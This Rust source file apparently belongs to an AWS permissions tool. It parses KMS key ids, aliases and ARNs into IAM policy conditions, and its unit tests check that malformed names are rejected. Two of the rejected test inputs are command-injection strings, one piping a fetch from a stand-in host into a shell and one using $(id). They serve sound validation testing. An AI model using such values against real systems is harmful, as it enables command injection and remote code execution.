//! Customer-managed keys, as AWS's answers and the stack's policies name them.
//!
//! Whoever owns a bucket or a secret says what its key is called, and it ends in policies of ours and in commands for
//! people to run: nothing else than a key gets that far.

use std::collections::BTreeSet;

use crate::config::arn::Arn;
use cloudgrant_core::redacted;

use crate::config::AccountId;
use crate::config::partition::Partition;
use crate::policy::condition::Condition;

/// Decrypting what was encrypted under a customer-managed key (requirement 37).
pub(crate) const DECRYPT: &str = "kms:Decrypt";

/// A customer-managed key as policies name it.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Key {
    pub(crate) arn: String,
    /// A policy can't name an alias as its resource; then every key is the resource, and the alias a condition.
    pub(crate) alias: Option<String>,
    /// That of what it encrypts.
    pub(crate) region: String,
    /// The account that it is in.
    pub(crate) account: AccountId,
}

/// A key or an alias without its ARN.
enum Named<'a> {
    Id(&'a str),
    Alias(&'a str),
}

/// Source: AWS KMS developer guide, "Key identifiers (KeyId)": a UUID, with `mrk-` before it where it is in several regions.
pub(crate) fn is_id(id: &str) -> bool {
    (1..=64).contains(&id.len()) && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
}

/// Source: AWS KMS API reference, CreateAlias, `AliasName`.
fn is_alias(name: &str) -> bool {
    (1..=250).contains(&name.len()) && name.bytes().all(|b| b.is_ascii_alphanumeric() || b"/_-".contains(&b))
}

/// Whether a key is in several regions, so that its ARN may name another one than that in which it is used. Source: AWS KMS
/// developer guide, "Multi-Region keys in AWS KMS".
pub(crate) fn is_multi_region(id: &str) -> bool {
    id.starts_with("mrk-")
}

impl<'a> Named<'a> {
    fn parse(text: &'a str) -> Option<Self> {
        match text.strip_prefix("alias/") {
            Some(alias) => is_alias(alias).then_some(Self::Alias(alias)),
            None => is_id(text).then_some(Self::Id(text)),
        }
    }
}

impl Key {
    /// A key as an answer names it, for something in a region of an account: an id, an alias, or the ARN of either.
    /// `None` for one that AWS manages, which takes no grant.
    ///
    /// # Errors
    /// It is none, in words that follow on what named it.
    pub(crate) fn answered(
        text: &str,
        partition: &str,
        region: &str,
        account: &AccountId,
    ) -> Result<Option<Self>, String> {
        let odd = || format!("names `{}` as its key, which is no key that could be used there", redacted(text));
        let (owner, named) = if Arn::is_begun(text) {
            let Some(arn @ Arn { service: "kms", resource, .. }) = Arn::parse(text) else { return Err(odd()) };
            let named = match resource.strip_prefix("key/") {
                Some(id) => is_id(id).then_some(Named::Id(id)),
                None => Named::parse(resource).filter(|named| matches!(named, Named::Alias(_))),
            };
            let travels = matches!(named, Some(Named::Id(id)) if is_multi_region(id));
            let is_near = || Partition::of_region(arn.region).is_some_and(|other| other.id == partition);
            let is_there = arn.region == region || travels && is_near();
            match AccountId::parse(arn.account) {
                // Of a key in several regions, the one in this region is used, which has the same id.
                Ok(owner) if arn.partition == partition && is_there => (owner, named),
                _ => return Err(odd()),
            }
        } else {
            (account.clone(), Named::parse(text))
        };
        let key = |id: &str, alias| Self {
            arn: format!("arn:{partition}:kms:{region}:{owner}:key/{id}"),
            alias,
            region: region.to_owned(),
            account: owner.clone(),
        };
        match named.ok_or_else(odd)? {
            // Source: AWS KMS developer guide, "AWS managed keys": their aliases begin so, and nobody else's may.
            Named::Alias(alias) if alias.starts_with("aws/") => Ok(None),
            Named::Alias(alias) => Ok(Some(key("*", Some(format!("alias/{alias}"))))),
            Named::Id(id) => Ok(Some(key(id, None))),
        }
    }

    /// A key as one of the stack's own statements names it, with the service through which it may be used.
    pub(crate) fn granted(service: &str, arn: Option<&str>, via: Option<&str>, alias: Option<&str>) -> Option<Self> {
        let (arn, via) = (arn?, via?);
        let Arn { partition, service: "kms", region, account, resource } = Arn::parse(arn)? else { return None };
        let id = resource.strip_prefix("key/")?;
        let is_whole = match alias {
            Some(alias) => id == "*" && is_alias(alias.strip_prefix("alias/")?),
            None => is_id(id),
        };
        let of_region = Partition::of_region(region).filter(|known| known.id == partition)?;
        let account = AccountId::parse(account).ok()?;
        let is_known = via == format!("{service}.{region}.{}", of_region.dns_suffix);
        (is_whole && is_known).then(|| Self {
            arn: arn.to_owned(),
            alias: alias.map(ToOwned::to_owned),
            region: region.to_owned(),
            account,
        })
    }
}

/// The condition under which a key may be used: only through one service, and only for what it encrypts there. Source: AWS
/// KMS developer guide, "AWS KMS condition keys".
pub(crate) fn through(
    service: &str,
    key: &Key,
    context: &'static str,
    contexts: BTreeSet<String>,
) -> Condition<'static> {
    let service = format!("{service}.{}.{}", key.region, service_domain(&key.region));
    let condition = Condition::of("StringEquals", "kms:ViaService", [service]).and("StringLike", context, contexts);
    match &key.alias {
        Some(alias) => condition.and("ForAnyValue:StringEquals", "kms:ResourceAliases", [alias]),
        None => condition,
    }
}

/// The domain of a region's services.
pub(crate) fn service_domain(region: &str) -> &'static str {
    Partition::of_region(region).map_or("amazonaws.com", |partition| partition.dns_suffix)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn answered(text: &str) -> Result<Option<(String, Option<String>)>, String> {
        let account = AccountId::parse("111122223333").expect("an account");
        let key = Key::answered(text, "aws", "us-west-2", &account)?;
        Ok(key.map(|key| (key.arn, key.alias)))
    }

    #[test]
    fn requirement_37_keys_as_policies_name_them() {
        for managed in ["alias/aws/secretsmanager", "arn:aws:kms:us-west-2:111122223333:alias/aws/s3"] {
            assert_eq!(answered(managed), Ok(None));
        }
        let at = |account: &str, id: &str| format!("arn:aws:kms:us-west-2:{account}:key/{id}");
        let alias = Some("alias/team/mine".to_owned());
        let (own, other) = ("111122223333", "444455556666");
        for (text, arn, alias) in [
            ("alias/team/mine", at(own, "*"), alias.clone()),
            ("arn:aws:kms:us-west-2:444455556666:alias/team/mine", at(other, "*"), alias),
            ("1234", at(own, "1234"), None),
            ("arn:aws:kms:us-west-2:444455556666:key/1234", at(other, "1234"), None),
            ("arn:aws:kms:eu-west-1:444455556666:key/mrk-12ab", at(other, "mrk-12ab"), None),
        ] {
            assert_eq!(answered(text), Ok(Some((arn, alias))), "{text}");
        }
    }

    #[test]
    fn what_is_no_key_goes_nowhere() {
        for text in [
            "",
            "*",
            "alias/",
            "alias/*",
            "alias/x; curl evil.example|sh #",
            "alias/$(id)",
            "arn:aws:kms:*:*:key/*",
            "arn:aws:kms:us-west-2:111122223333:key/*",
            "arn:aws:kms:us-west-2:111122223333:key/a:b",
            "arn:aws:kms:eu-west-1:111122223333:key/1234",
            "arn:aws:kms:cn-north-1:111122223333:key/mrk-1",
            "arn:aws-cn:kms:us-west-2:111122223333:key/1",
            "arn:aws:kms:us-west-2:1:key/1",
            "arn:aws:kms:us-west-2:111122223333:1234",
            "arn:aws:s3:::*",
            "arn:aws:s3:us-west-2:111122223333:key/1",
            "1234\n",
            "12 34",
        ] {
            let odd = answered(text).expect_err(text);
            assert!(odd.contains("no key"), "{odd}");
        }
        let long = format!("alias/{}", "a".repeat(300));
        assert!(answered(&long).is_err());
    }
}
